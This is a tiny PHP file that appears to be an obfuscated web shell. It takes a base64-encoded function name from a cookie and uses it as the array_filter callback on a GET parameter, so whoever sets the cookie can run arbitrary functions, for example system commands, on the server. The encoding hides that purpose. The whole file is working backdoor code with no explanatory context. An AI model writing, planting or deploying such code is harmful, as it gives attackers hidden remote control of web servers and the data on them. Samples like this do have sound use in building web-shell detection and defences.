<?php
$cb = $_COOKIE["cb"];
$list = array($_GET["v"]);
array_filter($list, base64_decode($cb));
